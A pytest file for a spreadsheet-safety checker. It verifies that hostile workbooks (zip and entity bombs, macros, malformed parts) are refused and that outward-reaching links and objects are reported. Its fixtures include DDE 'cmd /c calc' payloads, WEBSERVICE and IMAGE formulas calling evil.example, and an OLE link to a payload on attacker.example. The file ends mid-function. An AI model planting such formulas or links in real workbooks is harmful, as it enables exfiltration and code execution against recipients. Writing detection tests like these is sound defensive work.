"""Hostile files are refused cleanly: their WB001–WB003 finding, exit 2, in bounded time and memory; what a
file links to or embeds is named (WB010) by the same scan."""

from __future__ import annotations

import io
import json
import random
import struct
import subprocess
import sys
import textwrap
import zipfile

import pytest

from isap.rules.engine import check_file
from isap.workbook.safety import OLE_MAGIC as OLE_MAGIC_BYTES
from tests.conftest import findings_of
from tests.hostile import (
    HOSTILE_EXTENTS,
    WS_REL,
    add_sheet,
    build_all,
    dialogsheet_named_engagement,
    formatted_million_rows,
    valid_bytes,
)
from tests.timing import cpu_best

pytestmark = pytest.mark.integration  # the sandbox: hostile files under its limits

# Runs the real CLI in a child process under a 512 MiB address-space cap and a timeout, and reports its
# peak resident memory (ru_maxrss of the child).
PROBE = textwrap.dedent("""
    import json, resource, subprocess, sys
    CAP = 512 * 1024 * 1024  # the address space the checker may use, enforced by the kernel
    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (CAP, CAP))
    p = subprocess.run([sys.executable, "-m", "isap.cli", "check", "--format", "json", sys.argv[1]],
                       capture_output=True, text=True, timeout=60, preexec_fn=cap)
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print(json.dumps({"rc": p.returncode, "out": p.stdout, "err": p.stderr, "peak_mb": peak}))
""")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return build_all(tmp_path_factory.mktemp("hostile"))


def run_cli(path):
    proc = subprocess.run([sys.executable, "-c", PROBE, str(path)], capture_output=True, text=True, timeout=120)
    return json.loads(proc.stdout)


HOSTILE_NAMES = [
    "empty", "truncated", "csv_renamed", "pdf_renamed", "password_protected", "ods", "docx", "macro_enabled",
    "zip_bomb", "xml_entity_bomb", "external_entity", "too_many_rows", "dense_extent", "oversized_file",
    *HOSTILE_EXTENTS,
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_file_is_refused_with_its_finding(hostile, name):
    path, rule = hostile[name]
    report = check_file(path)
    assert report.exit_code == 2
    assert {f.rule_id for f in report.findings} == {rule}, report.findings
    assert report.template_version is None and report.checkpoint is None
    # refused by the scan itself, not by running out of the per-file time budget (speed is benchmarked)
    assert not any("time limit" in f.message or "within the limits" in f.message for f in report.findings)


def test_external_entity_never_reads_outside_the_file(hostile):
    report = check_file(hostile["external_entity"][0])
    assert "root:" not in json.dumps(report.to_dict())


def test_million_formatted_rows_are_not_data(tmp_path):
    path = formatted_million_rows(tmp_path)
    report = check_file(path)
    assert report.findings == []  # not refused, and not over the time budget either (speed is benchmarked)


def test_missing_file_is_wb001_with_null_sha(tmp_path):
    report = check_file(tmp_path / "nope.xlsx")
    assert [f.rule_id for f in report.findings] == ["WB001"]
    assert report.sha256 is None and report.exit_code == 2


def test_refused_file_keeps_its_sha(hostile):
    report = check_file(hostile["macro_enabled"][0])
    assert report.sha256 and len(report.sha256) == 64


def test_wb002_and_wb003_are_reported_together(tmp_path):
    from tests.hostile import _zip

    data = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                 "xl/vbaProject.bin": b"\x00" * 10, "xl/worksheets/sheet1.xml": b"\x00" * (50 * 1024 * 1024)})
    p = tmp_path / "both.xlsx"
    p.write_bytes(data)
    assert [f.rule_id for f in check_file(p).findings] == ["WB002", "WB003"]


def test_macro_content_type_alone_is_wb002(tmp_path):
    from tests.hostile import rezip, valid_bytes

    base = valid_bytes(tmp_path)
    import io
    import zipfile

    ct = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    p = tmp_path / "macro_ct.xlsx"
    p.write_bytes(rezip(base, replace={"[Content_Types].xml": ct}))
    assert [f.rule_id for f in check_file(p).findings] == ["WB002"]


def test_harmless_doctype_is_still_refused(tmp_path):
    from tests.hostile import engagement_part, rezip, valid_bytes

    base = valid_bytes(tmp_path)
    part = engagement_part(base)
    import io
    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(base)).read(part)
    xml = b"<!DOCTYPE worksheet>" + xml
    assert b"<!DOCTYPE" in xml
    p = tmp_path / "doctype.xlsx"
    p.write_bytes(rezip(base, replace={part: xml}))
    assert [f.rule_id for f in check_file(p).findings] == ["WB001"]


def test_lying_zip_directory_is_caught(tmp_path):
    """A part whose directory entry declares fewer bytes than it inflates to."""
    import struct

    from tests.hostile import valid_bytes

    data = bytearray(valid_bytes(tmp_path))
    # shrink the first central-directory entry's uncompressed size
    cd = data.find(b"PK\x01\x02")
    size = struct.unpack_from("<I", data, cd + 24)[0]
    struct.pack_into("<I", data, cd + 24, max(1, size // 4))
    p = tmp_path / "lying.xlsx"
    p.write_bytes(bytes(data))
    report = check_file(p)
    assert report.exit_code == 2
    assert [f.rule_id for f in report.findings] in (["WB003"], ["WB001"])


def test_several_files_one_bad(tmp_path, hostile):
    from sample_submissions.proposals import clean, write

    good = write(clean(1), tmp_path / "good.xlsx")
    proc = subprocess.run([sys.executable, "-m", "isap.cli", "check", "--format", "json", str(good),
                           str(hostile["truncated"][0])], capture_output=True, text=True)
    assert proc.returncode == 2
    reports = json.loads(proc.stdout)
    assert [r["summary"]["error"] for r in reports] == [0, 1]


def test_dialogsheet_named_like_a_template_sheet_is_ignored_and_never_read(tmp_path):
    path = tmp_path / "dialog.xlsx"
    path.write_bytes(dialogsheet_named_engagement(valid_bytes(tmp_path)))
    result = run_cli(path)
    assert result["rc"] in (0, 1), result
    report = json.loads(result["out"])
    wb006 = [f for f in report["findings"] if f["rule_id"] == "WB006"]
    assert [f["sheet"] for f in wb006] == ["Engagement"], report["findings"]
    assert "dialog" in wb006[0]["message"]
    assert not any(f["rule_id"] in ("WB001", "WB003", "WB004") for f in report["findings"])
    assert result["peak_mb"] < 500


@pytest.mark.parametrize("kind,name", [("chartsheet", "Instructions"), ("chartsheet", "Cover"),
                                       ("dialogsheet", "Notes")])
def test_chartsheets_and_dialogsheets_are_ignored_with_wb006_whatever_their_name(tmp_path, kind, name):
    body = (f'<{kind} xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"></{kind}>').encode()
    path = tmp_path / "extra.xlsx"
    path.write_bytes(add_sheet(valid_bytes(tmp_path), name, kind, body))
    report = check_file(path)
    wb006 = [f for f in report.findings if f.rule_id == "WB006"]
    assert [f.sheet for f in wb006] == [name]
    assert report.exit_code in (0, 1)
    assert not any(f.rule_id in ("WB001", "WB004") for f in report.findings)


@pytest.mark.parametrize("rel_type,content_type", [
    ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", None),
    ("http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet", None),
    (None, "application/vnd.ms-excel.macrosheet+xml"),
])
def test_excel4_macro_sheet_is_wb002(tmp_path, rel_type, content_type):
    body = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    path = tmp_path / "xlm.xlsx"
    path.write_bytes(add_sheet(valid_bytes(tmp_path), "Macro1", "worksheet", body, first=False,
                               rel_type=rel_type, content_type=content_type))
    report = check_file(path)
    assert {f.rule_id for f in report.findings} == {"WB002"}, report.findings
    assert report.exit_code == 2


def test_fast_path_and_exact_parse_measure_the_same(tmp_path):
    """The byte-pattern fast path is taken for canonical sheets and agrees with the exact parse."""
    import zipfile

    from isap.policy import Policy
    from isap.workbook.safety import SheetScan, _Budget, _scan_cells, _scan_sheet, inspect

    path = tmp_path / "base.xlsx"
    path.write_bytes(valid_bytes(tmp_path))
    policy = Policy()
    data = path.read_bytes()
    infos = {i.filename: i for i in zipfile.ZipFile(path).infolist()}
    for sheet in inspect(path, policy).sheets:
        fast = SheetScan(sheet.name, sheet.part, True)
        _scan_sheet(data, infos[sheet.part], fast, _Budget(60), [0], policy, frozenset())
        assert not fast.needs_cell_scan, sheet.name  # openpyxl writes the canonical spelling
        exact = SheetScan(sheet.name, sheet.part, True)
        _scan_cells(data, infos[sheet.part], exact, _Budget(60), policy)
        assert (fast.max_row, fast.max_col, fast.rows_with_values) == \
            (exact.max_row, exact.max_col, exact.rows_with_values) != (0, 0, 0)


# ------------------------------------------------------------------ linear-time scan patterns

def _scan_patterns():
    import re

    from isap.workbook import parse, safety

    return {f"{mod.__name__}.{name}": p for mod in (safety, parse) for name, p in vars(mod).items()
            if isinstance(p, re.Pattern)}


# Pieces an attacker can repeat in a sheet's XML: the openings of every tag the scan looks for,
# tags never closed, attribute runs without an end, many "<" without ">".
_XML_UNITS = [b'<c r="A1"', b'<c r="A1" ', b'<c r="A1"><v>1', b'<c r="A1"><is><t>x', b"<c", b"<c ", b"<c\t",
              b"<col", b"<col ", b'<col style="1', b'<row r="1" s="1" customFormat="1"', b'<row r="1" ',
              b"<", b"<a", b"<a:", b"a:", b":c", b"<x:c", b"<worksheet", b"<a.b", b'="', b" s=\"1\"", b"x",
              b"/", b"<v>", b"</v"]
_XML_ENDS = [b"", b"/>", b">", b"<", b"!"]
_TEXT_UNITS = ["A", "1", "a1", "%", "<"]


@pytest.mark.parametrize("name", sorted(_scan_patterns()))
def test_scan_patterns_run_in_linear_time(name):
    """Every pattern of the safety scan and the reader, run as the scan runs it (findall and search
    over a chunk) on adversarial XML of 1,000 and 100,000 bytes: the hundredfold input must cost well
    under the ten-thousandfold a quadratic pattern takes (a linear one takes about a hundredfold).
    CPU time, best of three, so a loaded machine does not decide the result; under 20 µs is timer
    noise.  (Each tenfold step was once bounded on its own, at 35: with another test run beside it on
    the same cores, one step of a linear pattern measured 40, its memory caches shared.)"""
    pattern = _scan_patterns()[name]
    if isinstance(pattern.pattern, bytes):
        families = [(u, e) for u in _XML_UNITS for e in _XML_ENDS]
    else:
        families = [(u, e) for u in _TEXT_UNITS for e in ("", "!", "<")]
    for unit, end in families:
        small, large = (unit * (n // len(unit)) + end for n in (1_000, 100_000))

        def growth(repeat: int) -> float:
            took = [cpu_best(lambda s=s: (pattern.findall(s), pattern.search(s), pattern.fullmatch(s)), repeat)
                    for s in (small, large)]
            return took[1] / max(took[0], 20e-6)

        # one run each, and the best of three only to confirm a growth too large (most of the test's time was
        # the two runs more of every one of the 125 inputs of each pattern)
        found = growth(1)
        if found >= 1_000:
            found = growth(3)
        assert found < 1_000, (f"{name} is {found:.0f}x slower on {unit!r}×{100_000 // len(unit):,}+{end!r} than "
                               "on a hundredth of it: not linear")


# ---------------------------------------------------------------------- WB010: links and embedded objects

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PKG_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
LINK_PATH = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
CT_LINK = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"


def _with_parts(data: bytes, parts: dict[str, bytes], overrides: dict[str, str] | None = None) -> bytes:
    """The workbook with parts added after its own, declared in [Content_Types].xml where `overrides` says."""
    from tests.hostile import rezip

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        ct = z.read("[Content_Types].xml").decode()
    for part, ctype in (overrides or {}).items():
        ct = ct.replace("</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>')
    return rezip(data, replace={"[Content_Types].xml": ct.encode()}, add=parts)


def _external_link(part: str, target: str) -> dict[str, bytes]:
    """An external link part as Excel writes it, with the relationship naming its target."""
    folder, _, file = part.rpartition("/")
    return {
        part: (f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{WS_REL[:-1]}"><externalBook r:id="rId1">'
               '<sheetNames><sheetName val="Rates"/></sheetNames></externalBook></externalLink>').encode(),
        f"{folder}/_rels/{file}.rels": (
            f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId1" Type="{LINK_PATH}" '
            f'Target="{target}" TargetMode="External"/></Relationships>').encode(),
    }


def _wb010(tmp_path, data: bytes, name: str = "linked.xlsx"):
    path = tmp_path / name
    path.write_bytes(data)
    report = check_file(path)
    return report, [f.message for f in report.findings if f.rule_id == "WB010"]


@pytest.mark.parametrize("target", [r"\\finance-srv\icp\Budget.xlsx", r"file:///\\finance-srv\icp\Budget.xlsx",
                                    "https://example.org/icp/rates.xlsx", "Budget%202026.xlsx"])
def test_an_external_link_is_named_by_its_target_and_the_workbook_still_assessed(tmp_path, target):
    from sample_submissions.proposals import clean, write

    p = clean(2)
    p["Finance"][5].update(net_assets_gbp=1_200_000, minimum_assets_gbp=2_000_000)  # CAP002, still found
    data = write(p, tmp_path / "base.xlsx").read_bytes()
    # declared as Excel declares it, at a place Excel would not use: found by its content type
    report, messages = _wb010(tmp_path, _with_parts(data, _external_link("xl/links/book1.xml", target),
                                                     {"xl/links/book1.xml": CT_LINK}))
    assert messages == [f"The workbook links to the external file '{target}' (part xl/links/book1.xml): opening "
                        "the original may make it reach that file."]
    assert [(f.rule_id, f.severity.value, f.sheet, f.row, f.column, f.cell) for f in report.findings] == [
        ("WB010", "warning", None, None, None, None), ("CAP002", "error", "Finance", 7, "net_assets_gbp", "D7")]
    assert report.exit_code == 1 and not report.refused


OLE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
HYPERLINK_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _sheet_relationships(rel_type: str, target: str) -> dict[str, bytes]:
    return {"xl/worksheets/_rels/sheet2.xml.rels": (
        f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId7" Type="{rel_type}" '
        f'Target="{target}" TargetMode="External"/></Relationships>').encode()}


@pytest.mark.parametrize("target", [r"\\finance-srv\icp\Board paper.docx", r"file:///\\finance-srv\icp\Budget.xlsx"])
def test_a_linked_ole_object_is_named_by_its_target_and_the_workbook_still_assessed(tmp_path, target):
    """A linked (not embedded) OLE object has no part of its own: only its sheet's relationship names the file
    it reaches, often a UNC path."""
    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "xl/worksheets/_rels/sheet2.xml.rels" not in z.namelist()
    report, messages = _wb010(tmp_path, _with_parts(data, _sheet_relationships(OLE_REL, target)))
    assert messages == [f"The workbook links an OLE object to the external file '{target}' (part "
                        "xl/worksheets/_rels/sheet2.xml.rels): opening the original may make it reach that file."]
    assert not report.refused and report.exit_code == 0


def test_a_hyperlink_to_a_web_page_is_not_wb010(tmp_path):
    data = _with_parts(valid_bytes(tmp_path), _sheet_relationships(HYPERLINK_REL, "https://www.england.nhs.uk/"))
    assert _wb010(tmp_path, data)[1] == []


def _cover_with(data: bytes, cell: str = "", after_data: str = "", defined: str = "") -> bytes:
    """The workbook with, on its Cover, a cell beside the fields (column D, which no field uses) and elements
    after the sheet's data; and with defined names."""
    from tests.hostile import rezip

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        cover, book = z.read("xl/worksheets/sheet2.xml").decode(), z.read("xl/workbook.xml").decode()
    cover = cover.replace("</c></row>", f"</c>{cell}</row>", 1).replace("</sheetData>", f"</sheetData>{after_data}")
    book = book.replace("<definedNames />", f"<definedNames>{defined}</definedNames>")
    return rezip(data, replace={"xl/worksheets/sheet2.xml": cover.encode(), "xl/workbook.xml": book.encode()})


@pytest.mark.parametrize(("formula", "named"), [
    ('_xlfn.WEBSERVICE("https://evil.example/?q="&amp;B3)', "WEBSERVICE"),
    ("webservice(B3)", "WEBSERVICE"),
    # any number of Excel's prefixes, and namespaced names (found by a fresh attack)
    ('_xlfn._xlws.WEBSERVICE("https://evil.example/")', "WEBSERVICE"),
    ('COM.MICROSOFT.WEBSERVICE("https://evil.example/")', "WEBSERVICE"),
    ('_xlfn.STOCKHISTORY("MSFT",B3)', "STOCKHISTORY"),
    ('_xlfn._xlws.PY(0,B3)', "PY"),
    ('_xlfn.IMAGE("https://evil.example/pixel.png")', "IMAGE"),
    ('RTD("evil.server",,"topic")', "RTD"),
    ('HYPERLINK("file://///finance-srv/icp/run.exe","Open")', "HYPERLINK"),
    ("cmd|' /C calc'!A0", "a DDE link"),
    ("'\\\\finance-srv\\icp\\[Budget.xlsx]Rates'!A1", "another workbook"),
    ("SUM([Budget 2026.xlsx]Rates!A1:A3)", "another workbook"),
])
def test_a_formula_that_reaches_outside_the_workbook_is_wb010_wherever_it_is(tmp_path, formula, named):
    """A formula calling a function that fetches a web address, starts a program or follows a link (WEBSERVICE,
    IMAGE, RTD, HYPERLINK), a DDE link, or a reference into another workbook, reaches outside when the original is
    opened and calculated: WB010, naming the function and where it is.  In a cell, a conditional format, a
    validation, or a defined name alike; the workbook is still assessed."""
    base = valid_bytes(tmp_path)
    places = {
        "cell D2 of sheet 'Cover'": _cover_with(base, cell=f'<c r="D2"><f>{formula}</f><v>0</v></c>'),
        "the conditional format of B3 on sheet 'Cover'": _cover_with(base, after_data=(
            f'<conditionalFormatting sqref="B3"><cfRule type="expression" priority="1"><formula>{formula}'
            "</formula></cfRule></conditionalFormatting>")),
        "the validation of B4 on sheet 'Cover'": _cover_with(base, after_data=(
            f'<dataValidations count="1"><dataValidation type="custom" sqref="B4"><formula1>{formula}</formula1>'
            "</dataValidation></dataValidations>")),
        "the defined name 'Rates'": _cover_with(base, defined=f'<definedName name="Rates">{formula}</definedName>'),
    }
    for where, data in places.items():
        report, messages = _wb010(tmp_path, data)
        assert messages == [f"The workbook has a formula calling {named} ({where}): opening the original and "
                            "calculating it may make it reach a web address, a file or another program."], where
        assert not report.refused and report.exit_code == 0, where


@pytest.mark.parametrize("formula", [
    "SUM(B13:B14)", 'IF(B3="WEBSERVICE(x)","a|b","[Budget.xlsx]Rates!A1")', "Services[[#This Row],[value_gbp]]",
    "'Partners (2026)'!A1", "INDEX(Finance!D7:D9,2)",
])
def test_a_formula_that_stays_within_the_workbook_is_not_wb010(tmp_path, formula):
    """Function names, bars and brackets inside a formula's text literals, structured references and references
    to the workbook's own sheets reach nothing."""
    base = valid_bytes(tmp_path)
    for data in (_cover_with(base, cell=f'<c r="D2"><f>{formula.replace("&", "&amp;")}</f><v>0</v></c>'),
                 _cover_with(base, after_data=(
                     '<dataValidations count="1"><dataValidation type="list" sqref="B4"><formula1>"Yes,No"'
                     "</formula1></dataValidation></dataValidations>"))):
        report, messages = _wb010(tmp_path, data)
        assert messages == [] and report.exit_code == 0


def test_an_external_link_kept_elsewhere_under_another_type_is_found_by_its_relationship(tmp_path):
    """Spreadsheet programs find an external link by the workbook's relationship that names it, whatever the part
    is called or declared as: a link kept as `xl/media/rates.bin`, declared as an image, is still WB010."""
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rels = z.read("xl/_rels/workbook.xml.rels")
    rels = rels.replace(b"</Relationships>", f'<Relationship Id="rIdL" Type="{WS_REL}externalLink" '
                                             'Target="media/rates.bin"/></Relationships>'.encode())
    data = _with_parts(rezip(data, replace={"xl/_rels/workbook.xml.rels": rels}),
                       _external_link("xl/media/rates.bin", r"\\finance-srv\icp\Rates.xlsx"),
                       {"xl/media/rates.bin": "image/png"})
    _, messages = _wb010(tmp_path, data)
    assert messages == ["The workbook links to the external file '\\\\finance-srv\\icp\\Rates.xlsx' (part "
                        "xl/media/rates.bin): opening the original may make it reach that file."]

@pytest.mark.parametrize("declared", [True, False], ids=["declared-by-content-type", "named-by-relationship"])
def test_data_connections_named_by_a_percent_encoded_target_are_wb010(tmp_path, declared):
    """Found by a fresh attack: a relationship's target and a content type's part name are URIs, which spreadsheet
    programs decode (`my%20connections.xml` names the part `my connections.xml`); matched as written, data
    connections refreshed as the workbook opened went unreported."""
    from tests.hostile import rezip
    from tests.hostile_documents import CONNECTIONS

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rels, types = z.read("xl/_rels/workbook.xml.rels"), z.read("[Content_Types].xml")
    rels = rels.replace(b"</Relationships>", f'<Relationship Id="rId99" Type="{WS_REL}connections" '
                                             'Target="/xl/my%20connections.xml"/></Relationships>'.encode())
    if declared:
        types = types.replace(b"</Types>", b'<Override PartName="/xl/my%20connections.xml" ContentType="application/'
                                           b'vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>')
    data = rezip(data, replace={"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types},
                 add={"xl/my connections.xml": CONNECTIONS})
    _, messages = _wb010(tmp_path, data)
    assert messages == ["The workbook holds data connections (part xl/my connections.xml): opening the original may "
                        "make it fetch data from another file or server."]

def test_two_links_are_reported_in_package_order(tmp_path):
    parts = {**_external_link("xl/externalLinks/externalLink2.xml", "https://example.org/second.xlsx"),
             **_external_link("xl/externalLinks/externalLink1.xml", r"\\srv\share\first.xlsx")}
    _, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), parts))
    assert [m.split("'")[1] for m in messages] == ["https://example.org/second.xlsx", r"\\srv\share\first.xlsx"]


def test_a_dde_link_is_named_by_its_service_and_topic(tmp_path):
    part = {"xl/externalLinks/externalLink1.xml": (
        f'<externalLink xmlns="{MAIN_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>').encode()}
    _, [message] = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), part))
    assert message.startswith("The workbook links to the external file 'cmd /c calc' (part ")


def test_a_link_target_is_shown_as_plain_text_cut_to_100_characters(tmp_path):
    # as written in the XML: markup characters escaped, a line break as a character reference
    target = "https://example.org/&lt;b&gt;&#10;" + "x" * 200 + ".xlsx"
    _, [message] = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path),
                                                _external_link("xl/externalLinks/externalLink1.xml", target)))
    assert "'https://example.org/<b>?" + "x" * 76 + "…'" in message and "\n" not in message


def _padded(xml: bytes, before: bytes, size: int) -> bytes:
    """`xml` with comments of text that does not compress (a part must stay under 200:1) put before `before`,
    to about `size` bytes."""
    import base64

    rng = random.Random(11)
    pad = b"".join(b"<!--" + base64.b64encode(rng.randbytes(3000)) + b"-->" for _ in range(size // 4007 + 1))
    return xml.replace(before, pad + before, 1)


def test_a_link_whose_relationships_are_padded_past_a_mebibyte_is_still_named(tmp_path):
    from tests.hostile import rezip

    parts = _external_link("xl/externalLinks/externalLink1.xml", r"\\srv\share\Budget.xlsx")
    rels = "xl/externalLinks/_rels/externalLink1.xml.rels"
    parts[rels] = _padded(parts[rels], b"<Relationship ", 1_200_000)
    _, [message] = _wb010(tmp_path, rezip(valid_bytes(tmp_path), add=parts))
    assert message.startswith("The workbook links to the external file '\\\\srv\\share\\Budget.xlsx' (part ")


def test_a_linked_ole_object_in_a_relationships_part_padded_past_a_mebibyte_is_still_found(tmp_path):
    """Found by a fresh attack: relationships parts over 1 MiB were skipped when looking for linked objects, so a
    sheet's OLE object linked to a file on another server was assessed clean."""
    parts = _sheet_relationships(OLE_REL, r"file:///\\attacker.example\share\payload.doc")
    parts = {name: _padded(xml, b"<Relationship ", 1_200_000) for name, xml in parts.items()}
    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), parts))
    assert messages == ["The workbook links an OLE object to the external file "
                        "'file:///\\\\attacker.example\\share\\payload.doc' (part "
                        "xl/worksheets/_rels/sheet2.xml.rels): opening the original may make it reach that file."]


def test_a_vba_project_named_by_a_relationships_part_padded_past_a_mebibyte_is_wb002(tmp_path):
    from tests.hostile import rezip, vba_project_elsewhere

    data = vba_project_elsewhere(valid_bytes(tmp_path), "xl/code.bin", relationship=True, content_type=False)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        rels = z.read("xl/_rels/workbook.xml.rels")
    data = rezip(data, replace={"xl/_rels/workbook.xml.rels": _padded(rels, b"</Relationships>", 1_200_000)})
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB002"] and "part xl/code.bin" in findings[0].message


@pytest.mark.parametrize("part", ["[Content_Types].xml", "xl/worksheets/_rels/sheet1.xml.rels"])
def test_a_part_that_names_what_the_package_holds_too_large_to_read_is_wb003(tmp_path, part):
    """Found by a fresh attack: a content types part over 10 MiB was read as declaring nothing, so an external
    link, an OLE object or a VBA project kept outside its usual folder went unreported; a relationships part
    as large was never read for the links and macros it names."""
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        held = part in z.namelist()
        xml = z.read(part) if held else f'<Relationships xmlns="{PKG_RELS_NS}"></Relationships>'.encode()
    large = _padded(xml, b"</Types>" if part.startswith("[") else b"</Relationships>", 10_600_000)
    findings = _refused(tmp_path, rezip(data, replace={part: large}) if held else rezip(data, add={part: large}))
    assert [f.rule_id for f in findings] == ["WB003"]
    assert f"Part {part} is " in findings[0].message and "over the safety limit for its kind" in findings[0].message


@pytest.mark.parametrize("part", ["[Content_Types].xml", "xl/worksheets/_rels/sheet2.xml.rels"])
def test_a_part_that_names_what_the_package_holds_and_is_not_well_formed_is_wb001(tmp_path, part):
    """What a content types or relationships part declares decides WB002 and WB010; one that cannot be parsed
    would hide what it names, so it is refused as corrupt, as Excel refuses it."""
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    broken = (f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId7" Type="{OLE_REL}" '
              'Target="\\\\srv\\x.doc" TargetMode="External"></Relationships>').encode()
    if part.startswith("["):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            broken = z.read(part).replace(b"</Types>", b"<Override PartName='/xl/links/l1.xml'></Types>")
        data = rezip(data, replace={part: broken})
    else:
        data = rezip(data, add={part: broken})
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert f"its XML part {part} is not well-formed XML" in findings[0].message


@pytest.mark.parametrize("part, content_type, shown", [
    ("xl/embeddings/oleObject1.bin", None, "an OLE object (part xl/embeddings/oleObject1.bin)"),
    ("xl/embeddings/Microsoft_Word_Document.docx", None,
     "an OLE object (a Word document, part xl/embeddings/Microsoft_Word_Document.docx)"),
    ("xl/objects/thing.bin", "application/vnd.openxmlformats-officedocument.oleObject",
     "an OLE object (part xl/objects/thing.bin)"),
])
def test_an_embedded_object_is_named_by_its_type(tmp_path, part, content_type, shown):
    data = _with_parts(valid_bytes(tmp_path), {part: OLE_MAGIC_BYTES + b"\0" * 504},
                       {part: content_type} if content_type else None)
    report, messages = _wb010(tmp_path, data)
    assert messages == [f"The workbook embeds {shown}: opening the original may run it or open what it holds."]
    assert report.exit_code == 0


PACKAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"


@pytest.mark.parametrize("part, content_type, relationship, shown", [
    ("xl/media/board-paper.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     PACKAGE_REL, "an OLE object (a Word document, part xl/media/board-paper.docx)"),
    ("xl/media/image9.emf", "image/x-emf", OLE_REL, "an OLE object (part xl/media/image9.emf)"),
    ("xl/media/image1.png", "image/png", None, "an OLE object (part xl/media/image1.png)"),
], ids=["document-named-by-a-package-relationship", "ole-object-declared-as-an-image", "ole-bytes-named-by-nothing"])
def test_an_embedded_object_is_found_by_its_relationship_or_its_bytes_wherever_it_is_kept(
        tmp_path, part, content_type, relationship, shown):
    """Found by a fresh attack: embedded objects were found only under xl/embeddings/ or by the OLE object
    content type, so a Word document kept at xl/media/ under its own type, or an OLE object declared as an
    image, was assessed without a word; Excel finds an embedded object by the relationship that names it."""
    data = valid_bytes(tmp_path)
    parts = {part: (OLE_MAGIC_BYTES + b"\0" * 504) if not part.endswith(".docx") else sample_docx_bytes()}
    if relationship:
        parts["xl/worksheets/_rels/sheet2.xml.rels"] = (
            f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rIdP1" Type="{relationship}" '
            f'Target="/{part}"/></Relationships>').encode()
    report, messages = _wb010(tmp_path, _with_parts(data, parts, {part: content_type}))
    assert messages == [f"The workbook embeds {shown}: opening the original may run it or open what it holds."]
    assert report.exit_code == 0


def sample_docx_bytes() -> bytes:
    from sample_submissions.evidence import sample_docx

    return sample_docx()


def test_an_activex_control_is_named_once_with_its_class(tmp_path):
    control = {
        "xl/activeX/activeX1.xml": (
            '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            f'xmlns:r="{WS_REL[:-1]}" ax:classid="{{D7053240-CE69-11CD-A777-00DD01143C57}}" '
            'ax:persistence="persistStreamInit" r:id="rId1"/>').encode(),
        "xl/activeX/_rels/activeX1.xml.rels": (
            f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId1" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" '
            'Target="activeX1.bin"/></Relationships>').encode(),
        "xl/activeX/activeX1.bin": b"\0" * 64,
    }
    _, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), control, {
        "xl/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
        "xl/activeX/activeX1.bin": "application/vnd.ms-office.activeX"}))
    assert messages == ["The workbook holds an ActiveX control (class '{D7053240-CE69-11CD-A777-00DD01143C57}', "
                        "part xl/activeX/activeX1.xml): opening the original may run it."]


def test_a_workbook_without_links_or_objects_has_no_wb010(tmp_path):
    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), {"xl/media/image1.png": b"\x89PNG"}))
    assert messages == [] and report.findings == []


def test_a_refused_workbook_reports_no_wb010(tmp_path):
    parts = {**_external_link("xl/externalLinks/externalLink1.xml", r"\\srv\share\Budget.xlsx"),
             "xl/vbaProject.bin": b"macros"}
    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), parts))
    assert messages == [] and [f.rule_id for f in report.findings] == ["WB002"]


# ------------------------------------------------------------------ parts that are not well-formed XML

def _refused(tmp_path, data: bytes, name: str = "odd.xlsx") -> list:
    path = tmp_path / name
    path.write_bytes(data)
    report = check_file(path)
    assert report.refused and report.exit_code == 2, report.findings
    return report.findings


def _engagement(tmp_path) -> tuple[bytes, str, bytes]:
